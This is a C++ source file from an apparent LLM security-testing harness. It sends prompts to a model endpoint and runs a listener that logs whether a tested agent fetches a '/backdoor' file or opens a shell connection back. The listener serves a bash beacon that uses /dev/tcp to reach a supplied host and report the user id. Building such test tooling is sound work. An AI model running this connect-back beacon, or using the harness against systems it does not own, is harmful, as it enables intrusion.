#include "llmsec/http_adapter.hpp"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstring>

#include <httplib.h>
#include <nlohmann/json.hpp>

namespace llmsec::exploit {

namespace {

// Served for GET /backdoor in place of a real implant: a one-shot
// connect-back beacon so the shell_connect leg of the protocol can be
// observed on targets the operator owns.
constexpr const char* kBeaconScript =
    "#!/bin/bash\n"
    "# connect-back beacon for authorized testing; sends one line and exits\n"
    "exec 3<>/dev/tcp/\"$1\"/\"$2\" && echo \"beacon uid=$(id -u)\" >&3\n";

std::uint64_t now_ms() {
    return static_cast<std::uint64_t>(
        std::chrono::duration_cast<std::chrono::milliseconds>(
            std::chrono::steady_clock::now().time_since_epoch())
            .count());
}

std::string first_path_segment(const std::string& request_line) {
    // "GET /abc HTTP/1.1" -> "abc"
    const auto slash = request_line.find('/');
    if (slash == std::string::npos) return "";
    auto end = request_line.find_first_of(" ?\r\n", slash);
    if (end == std::string::npos) end = request_line.size();
    std::string path = request_line.substr(slash + 1, end - slash - 1);
    const auto next = path.find('/');
    if (next != std::string::npos) path = path.substr(next + 1);
    return path;
}

}  // namespace

CallbackListener::~CallbackListener() { stop(); }

bool CallbackListener::start(const std::string& host, int port) {
    server_fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    if (server_fd_ < 0) return false;
    int yes = 1;
    ::setsockopt(server_fd_, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof(yes));

    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(static_cast<uint16_t>(port));
    if (::inet_pton(AF_INET, host.c_str(), &addr.sin_addr) != 1) {
        ::close(server_fd_);
        server_fd_ = -1;
        return false;
    }
    if (::bind(server_fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) <
            0 ||
        ::listen(server_fd_, 8) < 0) {
        ::close(server_fd_);
        server_fd_ = -1;
        return false;
    }
    socklen_t len = sizeof(addr);
    ::getsockname(server_fd_, reinterpret_cast<sockaddr*>(&addr), &len);
    port_ = ntohs(addr.sin_port);

    running_ = true;
    thread_ = std::thread([this] { accept_loop(); });
    return true;
}

void CallbackListener::stop() {
    running_ = false;
    if (thread_.joinable()) thread_.join();
    if (server_fd_ >= 0) {
        ::close(server_fd_);
        server_fd_ = -1;
    }
}

std::vector<NetworkEventRec> CallbackListener::drain() {
    std::lock_guard<std::mutex> lock(mutex_);
    std::vector<NetworkEventRec> out = std::move(events_);
    events_.clear();
    return out;
}

void CallbackListener::accept_loop() {
    while (running_) {
        fd_set readfds;
        FD_ZERO(&readfds);
        FD_SET(server_fd_, &readfds);
        timeval tv{0, 200 * 1000};  // 200ms poll so stop() is prompt
        const int rc = ::select(server_fd_ + 1, &readfds, nullptr, nullptr, &tv);
        if (rc <= 0) continue;

        const int client = ::accept(server_fd_, nullptr, nullptr);
        if (client < 0) continue;

        timeval rcv{2, 0};
        ::setsockopt(client, SOL_SOCKET, SO_RCVTIMEO, &rcv, sizeof(rcv));
        char buf[2048];
        const ssize_t n = ::recv(client, buf, sizeof(buf) - 1, 0);
        std::string data(buf, n > 0 ? static_cast<size_t>(n) : 0);

        NetworkEventRec event;
        event.timestamp = now_ms();
        if (data.rfind("GET ", 0) == 0) {
            const std::string path = first_path_segment(data);
            if (path == "backdoor" ||
                data.find("GET /backdoor") != std::string::npos) {
                event.kind = "file_fetch";
                event.nonce = "backdoor";
                const std::string body(kBeaconScript);
                const std::string response =
                    "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
                    "Content-Length: " +
                    std::to_string(body.size()) + "\r\n\r\n" + body;
                ::send(client, response.data(), response.size(), 0);
            } else {
                event.kind = "http_probe";
                event.nonce = path;
                const std::string response =
                    "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
                ::send(client, response.data(), response.size(), 0);
            }
        } else {
            event.kind = "shell_connect";
            const auto eol = data.find_first_of("\r\n");
            event.nonce = eol == std::string::npos ? data : data.substr(0, eol);
        }
        ::close(client);

        std::lock_guard<std::mutex> lock(mutex_);
        events_.push_back(std::move(event));
    }
}

HttpAdapter::HttpAdapter(HttpAdapterConfig config) : cfg_(std::move(config)) {
    if (cfg_.listen_port >= 0 && !cfg_.listen_host.empty()) {
        listener_ = std::make_unique<CallbackListener>();
        if (!listener_->start(cfg_.listen_host, cfg_.listen_port))
            listener_.reset();
    }
}

HttpAdapter::~HttpAdapter() = default;

int HttpAdapter::listener_port() const {
    return listener_ ? listener_->port() : 0;
}

SendResult HttpAdapter::send(const std::string& prompt) {
    if (!first_send_ && cfg_.min_delay_ms > 0)
        std::this_thread::sleep_for(
            std::chrono::milliseconds(cfg_.min_delay_ms));
    first_send_ = false;

    // split the endpoint into base and path
    std::string base = cfg_.url;
    std::string path = "/";
    const auto scheme_end = base.find("://");
    if (scheme_end != std::string::npos) {
        const auto slash = base.find('/', scheme_end + 3);
        if (slash != std::string::npos) {
            path = base.substr(slash);
            base = base.substr(0, slash);
        }
    }

    httplib::Client client(base);
    client.set_connection_timeout(cfg_.timeout_seconds, 0);
    client.set_read_timeout(cfg_.timeout_seconds, 0);

    httplib::Result res;
    if (cfg_.json_body) {
        const std::string body =
            nlohmann::json{{cfg_.prompt_field, prompt}}.dump();
        res = client.Post(path, body, "application/json");
    } else {
        httplib::Params params{{cfg_.prompt_field, prompt}};
        res = client.Post(path, params);
    }
    if (!res)
        return {false, "",
                "transport error: " + httplib::to_string(res.error())};
    if (res->status < 200 || res->status >= 300)
        return {false, "", "http status " + std::to_string(res->status)};
    return {true, res->body, ""};
}

std::vector<NetworkEventRec> HttpAdapter::network_events() {
    if (!listener_) return {};
    return listener_->drain();
}

}  // namespace llmsec::exploit
